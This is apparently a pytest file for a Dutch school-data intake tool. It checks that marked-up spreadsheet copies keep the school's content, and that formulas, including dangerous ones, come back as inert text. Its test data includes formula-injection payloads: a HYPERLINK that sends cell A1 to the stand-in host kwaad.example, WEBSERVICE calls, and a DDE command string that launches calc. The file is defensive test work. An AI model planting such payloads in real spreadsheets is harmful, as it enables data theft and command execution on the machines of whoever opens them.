"""The marked copy: what is wrong stands in the cell, and what the school wrote stays."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from evalkit.collect.checks import check_delivery
from evalkit.collect.harmless import only_counts
from evalkit.collect.marking import mark, meta_of
from evalkit.collect.tables import read_table
from evalkit.collect.workbook_format import FIRST_ROW, HEADER_ROW
from evalkit.collect.workbook_reading import read_workbook
from evalkit.errors import EvalkitError, finding
from evalkit.model.design import Design
from evalkit.model.finding import Finding, Place
from evalkit.model.text import Lang

from .filling import PUPILS, TAKEN, codes, columns_of, date_taken, fill, opened, pupil, saved

ROWS = [
    pupil(unit="p1", core__language="zes"),
    pupil(unit="p2", core__language=900, core__absence=2.5),
    pupil(unit="p2", core__language="=1+1"),
]


@pytest.fixture
def sent(workbook: bytes, tmp_path: Path) -> Path:
    book = opened(workbook)
    date_taken(book, "baseline", TAKEN)
    fill(book[PUPILS], ROWS)
    sheet = book[PUPILS]
    for row in range(FIRST_ROW + 1, FIRST_ROW + 4):
        cell = sheet.cell(row, columns_of(sheet)["core.language"])
        if cell.data_type == "f":
            cell.data_type = "s"
    sheet["B7"].font = Font(bold=True, color="FF00FF")
    sheet["F8"].comment = Comment("even nagaan", "de school")
    book.create_sheet("Notities")["A1"] = "eigen blad"
    return saved(book, tmp_path)


def found_in(path: Path, design: Design) -> list[Finding]:
    delivery = read_workbook(path)
    checked = check_delivery(delivery, design)
    return [*delivery.findings, *(f for result in checked for f in result.findings)]


def marked(path: Path, design: Design, lang: Lang = "nl") -> tuple[Any, list[Finding]]:
    found = found_in(path, design)
    return openpyxl.load_workbook(BytesIO(mark(path, found, lang))), found


def test_wrong_cells_are_coloured_and_say_why(sent: Path, design: Design) -> None:
    book, found = marked(sent, design)
    sheet = book[PUPILS]
    wrong = [f for f in found if f.is_error and f.place.row]
    assert {(f.place.row, f.code) for f in wrong} >= {
        (7, "intake.not_a_number"), (8, "intake.out_of_bounds"), (8, "intake.not_whole"),
        (9, "intake.duplicate_unit"),
    }  # fmt: skip
    for one in wrong:
        cell = sheet[f"{str(one.place.column)[0]}{one.place.row}"]
        assert one.wrong.nl in cell.comment.text
        assert one.remedy.nl in cell.comment.text
        assert cell.fill.fgColor.rgb == "00FFC9C4"
    assert sheet["E10"].comment is None


def test_what_the_school_wrote_stays(sent: Path, design: Design) -> None:
    book, _ = marked(sent, design)
    before, after = openpyxl.load_workbook(sent), book
    assert after.sheetnames[1:] == before.sheetnames
    for sheet in before:
        for row in sheet.iter_rows():
            for cell in row:
                assert after[sheet.title][cell.coordinate].value == cell.value
    assert after[PUPILS]["B7"].font.bold
    assert after[PUPILS]["B7"].font.color.rgb == "00FF00FF"
    assert after[PUPILS]["F8"].comment.text.startswith("even nagaan")
    assert after[PUPILS].protection.sheet
    rules = len(before[PUPILS].data_validations.dataValidation)
    assert len(after[PUPILS].data_validations.dataValidation) == rules


@pytest.mark.parametrize(("lang", "name"), [("nl", "fout"), ("en", "error")])
def test_the_list_names_each_and_leads_to_it(
    sent: Path, design: Design, lang: Lang, name: str
) -> None:
    book, found = marked(sent, design, lang)
    sheet = book.worksheets[0]
    assert book.active.title == sheet.title
    rows = [row for row in sheet.iter_rows(min_row=6) if row[1].value]
    assert len(rows) == len(found)
    assert sorted(row[6].value for row in rows) == sorted(codes(found))
    assert rows[0][1].value == name
    first = next(row for row in rows if row[6].value == "intake.not_a_number")
    assert first[4].value == next(f for f in found if f.code == "intake.not_a_number").wrong.to(
        lang
    )
    assert first[3].hyperlink.location == f"'{PUPILS}'!E7"


def test_the_copy_can_be_mended_and_sent_in(sent: Path, design: Design, tmp_path: Path) -> None:
    book, _ = marked(sent, design)
    sheet = book[PUPILS]
    sheet["E7"], sheet["E8"], sheet["F8"], sheet["C9"], sheet["E9"] = 41, 42, 2, "p3", 43
    again = read_workbook(saved(book, tmp_path, "verbeterd.xlsx"))
    # Only the school's own sheet is mentioned, not the list of findings.
    assert codes(again.findings) == ["intake.sheet_unknown"]
    (checked,) = check_delivery(again, design)
    assert checked.is_acceptable
    assert checked.frame["core.language"].tolist() == [41, 42, 43]


def test_a_second_round_leaves_only_what_is_still_wrong(
    sent: Path, design: Design, tmp_path: Path
) -> None:
    book, _ = marked(sent, design)
    book[PUPILS]["E7"], book[PUPILS]["F8"] = 41, 2
    path = saved(book, tmp_path, "ronde2.xlsx")
    again, _ = marked(path, design)
    sheet = again[PUPILS]
    assert len(again.sheetnames) == len(book.sheetnames)
    assert sheet["E7"].comment is None
    assert sheet["E7"].fill.fgColor.rgb != "00FFC9C4"
    assert sheet["F8"].comment.text == "even nagaan"
    assert sheet["E8"].comment.text.count("evalkit") == 1


def test_a_finding_on_a_column_marks_its_header_readably(sent: Path, design: Design) -> None:
    place = Place(file=sent.name, sheet=PUPILS, column="E (Taal)")
    found = [finding("intake.personal_number", place, column="Taal")]
    path = sent.with_name("gemerkt.xlsx")
    path.write_bytes(mark(sent, found, "nl"))
    header = openpyxl.load_workbook(path)[PUPILS].cell(HEADER_ROW + 1, 5)
    assert "onderwijsnummers" in header.comment.text
    # White letters stay on a dark ground.
    assert (header.font.color.rgb, header.fill.fgColor.rgb) == ("FFFFFFFF", "00B3261E")
    again = openpyxl.load_workbook(BytesIO(mark(path, [], "nl")))[PUPILS].cell(HEADER_ROW + 1, 5)
    assert (again.comment, again.fill.fgColor.rgb) == (None, "000B5A63")


def test_findings_on_the_whole_and_on_what_is_gone_are_listed(sent: Path) -> None:
    found = [
        finding("intake.empty", Place(file=sent.name)),
        finding("intake.empty", Place(file=sent.name, sheet="Weg", row=3, column="A")),
        finding("intake.empty", Place(file=sent.name, sheet=PUPILS)),
        finding("intake.empty", Place(file=sent.name, sheet=PUPILS, row=9_999_999, column="ZZZ")),
    ]
    book = openpyxl.load_workbook(BytesIO(mark(sent, found, "en")))
    rows = [row for row in book.worksheets[0].iter_rows(min_row=6) if row[1].value]
    assert len(rows) == 4


def test_a_merged_cell_is_marked_where_it_shows(sent: Path, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(sent)
    book[PUPILS].merge_cells("A7:A9")
    path = saved(book, tmp_path)
    place = Place(file=path.name, sheet=PUPILS, row=8, column="A (School (BRIN))")
    copy = openpyxl.load_workbook(BytesIO(mark(path, [finding("intake.empty", place)], "nl")))
    assert copy[PUPILS]["A7"].comment is not None


CSV = "school;leerling;fonds.score\n05KO;=1+1;zes\n\n05KO;@SUM(A1);7,5\n05KO;-5;+3\n"


def test_a_csv_becomes_a_workbook_with_rows_where_they_were(tmp_path: Path) -> None:
    path = tmp_path / "export [1].csv"
    path.write_text(CSV, encoding="utf-8")
    place = Place(file=path.name, row=4, column="fonds.score")
    found = [
        finding("intake.not_a_number", place, value="x"),
        finding("intake.column_unknown", Place(file=path.name, column="leerling"), column="x"),
    ]
    book = openpyxl.load_workbook(BytesIO(mark(path, found, "nl")))
    sheet = book.worksheets[1]
    assert [c.value for c in sheet[4]] == ["05KO", "@SUM(A1)", "7,5"]
    assert sheet["C4"].comment is not None
    assert sheet["B1"].comment is not None
    cells = [cell for s in book for row in s.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert sheet["B2"].value == "=1+1"
    # Editing such a cell in Excel does not make it a formula either.
    assert all(sheet[name].quotePrefix for name in ("B2", "B4", "B5", "C5"))


def test_formulas_in_findings_stay_text(sent: Path) -> None:
    place = Place(file=sent.name, sheet=PUPILS, row=7, column="=cmd()")
    book = openpyxl.load_workbook(
        BytesIO(mark(sent, [finding("intake.not_a_number", place, value="=1+1")], "nl"))
    )
    assert not [c for row in book.worksheets[0].iter_rows() for c in row if c.data_type == "f"]


DOES_MORE = {
    '=HYPERLINK("http://kwaad.example/?x="&A1,"klik")': "klik",
    "=cmd|' /C calc'!A0": None,
    '=WEBSERVICE("http://kwaad.example")': 7,
    "='C:\\map\\[ander.xlsx]Blad'!A1": 3,
    '=_xlfn.STDEV.S(A1:A3)&HYPERLINK("#")': "x",
    '=\'a"b\'!A1&HYPERLINK("http://kwaad.example")': "y",
}


def test_formulas_that_do_more_than_count_do_not_go_back(sent: Path, design: Design) -> None:
    book = openpyxl.load_workbook(sent)
    own = book["Notities"]
    for row, formula in enumerate(DOES_MORE, start=1):
        own.cell(row, 1, formula)
        own.cell(row, 2, "=SUM(C1:C3)")
    own["D1"].hyperlink = "http://kwaad.example"
    own["D1"] = "klik hier"
    rule = DataValidation("list", formula1='=HYPERLINK("http://kwaad.example")')
    rule.add("E1")
    own.add_data_validation(rule)
    book.defined_names["Auto"] = DefinedName("Auto", attr_text="cmd|' /C calc'!A0")
    book.save(sent)
    counts = sum(c.data_type == "f" for row in book["Start"].iter_rows() for c in row)
    back, _ = marked(sent, design)
    assert sum(c.data_type == "f" for row in back["Start"].iter_rows() for c in row) == counts > 0
    own = back["Notities"]
    for row, formula in enumerate(DOES_MORE, start=1):
        cell = own.cell(row, 1)
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", formula, True)
        assert own.cell(row, 2).value == "=SUM(C1:C3)"
    assert own["D1"].hyperlink is None
    assert own["D1"].value == "klik hier"
    assert not own.data_validations.dataValidation
    assert len(back[PUPILS].data_validations.dataValidation) == len(
        openpyxl.load_workbook(sent)[PUPILS].data_validations.dataValidation
    )
    assert "Auto" not in back.defined_names


def test_what_a_formula_had_counted_stays(sent: Path, design: Design) -> None:
    import xlsxwriter

    book = xlsxwriter.Workbook(sent, {"in_memory": True})
    sheet = book.add_worksheet("Blad")
    for row, (formula, value) in enumerate(DOES_MORE.items()):
        sheet.write_formula(row, 0, formula, None, value if value is not None else "")
    sheet.write_array_formula("B1:B1", '{=HYPERLINK("http://kwaad.example")}', None, 5)
    book.close()
    back = openpyxl.load_workbook(BytesIO(mark(sent, [], "nl")))["Blad"]
    values = [back.cell(row, 1).value for row in range(1, len(DOES_MORE) + 1)]
    assert not any(c.data_type == "f" for row in back.iter_rows() for c in row)
    assert values[0] == "klik"
    assert values[2:4] == [7, 3]
    assert back["B1"].value == 5


@given(
    inside=st.text(st.characters(exclude_characters="\"'", exclude_categories=["Cs"]), max_size=12),
    start=st.sampled_from(["", "SUM(A1)&", '"x"&', "'a\"b'!A1&", "'it''s'!A1&"]),
)
def test_no_call_hides_in_a_formula(inside: str, start: str) -> None:
    """Whatever stands before it as long as quotes are closed."""
    assert not only_counts(f'={start}{inside}&HYPERLINK("x")')
    assert not only_counts(f"={start}{inside}&cmd|' /C calc'!A0")


def test_what_cannot_be_marked_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name, content, code in (
        ("a.json", b"{}", "intake.not_marked"),
        ("a.xlsx", b"geen zip", "intake.unreadable"),
        ("a.csv", b"", "intake.empty"),
    ):
        path = tmp_path / name
        path.write_bytes(content)
        with pytest.raises(EvalkitError) as caught:
            mark(path, [], "nl")
        assert caught.value.finding.code == code


def test_a_workbook_of_too_many_cells_is_not_copied(
    sent: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("evalkit.collect.marking._MOST_CELLS", 10)
    with pytest.raises(EvalkitError) as caught:
        mark(sent, [], "nl")
    assert caught.value.finding.code == "intake.not_marked"


def test_what_a_workbook_says_of_itself(sent: Path, tmp_path: Path) -> None:
    meta = meta_of(sent)
    assert (meta["project"], meta["language"]) == ("slimfit-oost", "nl")
    book = openpyxl.Workbook()
    book.active["A1"].fill = PatternFill("solid", fgColor="FF0000")
    assert meta_of(saved(book, tmp_path, "eigen.xlsx")) == {}
    assert meta_of(tmp_path / "weg.xlsx") == {}
    table = tmp_path / "a.csv"
    table.write_text(CSV, encoding="utf-8")
    assert meta_of(table) == {}
    assert len(read_table(table).rows) == 3
